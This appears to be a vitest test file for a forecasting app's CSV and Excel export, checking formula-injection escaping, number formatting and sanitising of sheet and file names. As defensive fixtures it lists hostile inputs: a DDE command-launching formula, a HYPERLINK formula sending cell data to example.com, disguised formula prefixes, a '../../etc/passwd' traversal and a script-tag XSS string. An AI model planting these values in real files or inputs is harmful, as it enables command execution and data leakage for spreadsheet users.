import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { csvOf } from '#client/lib/export/csv.ts';
import { type ExportCell, type ExportTable, moneyCell, plainCell, rateCell } from '#client/lib/export/table.ts';
import { workbookOf } from '#client/lib/export/workbook.ts';
import { safeText } from '#shared/domain/csv.ts';
import { fileName } from '#shared/domain/file-name.ts';
import { sheetNames } from '#shared/workbook/sheet-names.ts';
import { readCsv } from '#tests/helpers/read-csv.ts';

const tableOf = (...cells: ExportCell[]): ExportTable => ({
  name: 'Test',
  head: [],
  columns: cells.map((_, at) => ({ label: String(at) })),
  nameColumns: 1,
  rows: [{ kind: 'line', level: 0, cells }],
});

/** Texts that a spreadsheet would run, or that would break out of their cell. */
const attacks = [
  "=cmd|'/c calc'!A1",
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A',
  '=HYPERLINK("https://example.com?"&A1,"Click")',
];

describe('texts that could be formulas (A77)', () => {
  it.each(attacks)('%j stands in CSV as text, behind an apostrophe', (text) => {
    const [, row] = readCsv(csvOf([tableOf(text, 'next')]));
    expect(row).toEqual([`'${text}`, 'next']);
  });

  it.each(['a;=1+1', '"=1+1', 'a,=1+1', 'a\r\n=1+1', 'a\t=1+1'])('%j does not leave its quotes', (text) => {
    const csv = csvOf([tableOf(text, 'next')]);
    expect(csv).toContain(`"${text.replaceAll('"', '""')}",next`);
  });

  it('plain texts and negative numbers stay as they are', () => {
    for (const text of ['Rent', 'A = B', "O'Neill", 'x-1', '', '2026-10']) expect(safeText(text)).toBe(text);
    expect(csvOf([tableOf(moneyCell(-500, 2), rateCell(-62_500), plainCell(-1500, 3))])).toContain(
      '\r\n-5.00,-6.2500,-1.500\r\n',
    );
  });

  it('a workbook holds them as inline strings, with no formula in the file', async () => {
    const readable = attacks.filter((text) => !text.includes('\u0000'));
    const bytes = await workbookOf([tableOf(...readable)], 'test');
    const [sheet] = await readXlsxFile(Buffer.from(bytes), { trim: false });
    expect(sheet?.data.at(-1)?.map((text) => String(text).replace(/\r\n?/g, '\n'))).toEqual(
      readable.map((text) => text.replace(/\r\n?/g, '\n')),
    );
  });
});

describe('numbers', () => {
  it('are with every place of their currency: 0, 2 and 3', () => {
    const csv = csvOf([
      tableOf(moneyCell(53_185, 0), moneyCell(53_185, 2), moneyCell(-5, 3), moneyCell(Number.NaN, 2)),
    ]);
    expect(csv).toContain('\r\n53185,531.85,-0.005,\r\n');
  });

  it('the largest amount of a forecast keeps its last minor unit', async () => {
    const csv = csvOf([tableOf(moneyCell(99_999_999_999_999, 2))]);
    expect(csv).toContain('999999999999.99');
    const [sheet] = await readXlsxFile(Buffer.from(await workbookOf([tableOf(moneyCell(99_999_999_999_999, 2))], 't')));
    expect(Math.round(Number(sheet?.data.at(-1)?.[0]) * 100)).toBe(99_999_999_999_999);
  });
});

describe('names', () => {
  it('of sheets: what Excel rejects is left out, 31 characters at most, each once', () => {
    expect(
      sheetNames(['a/b[c]:d*e?f\\g', "'quoted'", 'History', 'x'.repeat(40), 'x'.repeat(41), '', 'Cash', 'cash']),
    ).toEqual([
      'a b c d e f g',
      'quoted',
      'History (2)',
      'x'.repeat(31),
      `${'x'.repeat(27)} (2)`,
      '-',
      'Cash',
      'cash (2)',
    ]);
  });

  it('of files: letters, digits and dashes of every script, no path, no device, never empty', () => {
    expect(fileName(['Café Ωmega 店', 'Profit and loss'], 'csv')).toBe('Café Ωmega 店 - Profit and loss.csv');
    expect(fileName(['../../etc/passwd'], 'json')).toBe('etc passwd.json');
    expect(fileName(['<script>alert(1)</script>'], 'csv')).toBe('script alert 1 script.csv');
    expect(fileName(['Café', 'Visitors −15 %'], 'xlsx')).toBe('Café - Visitors -15 %.xlsx');
    expect(fileName(['CON'], 'csv')).toBe('_CON.csv');
    expect(fileName(['???'], 'csv')).toBe('forecast.csv');
    expect(fileName(['x'.repeat(300)], 'csv')).toBe(`${'x'.repeat(100)}.csv`);
  });
});
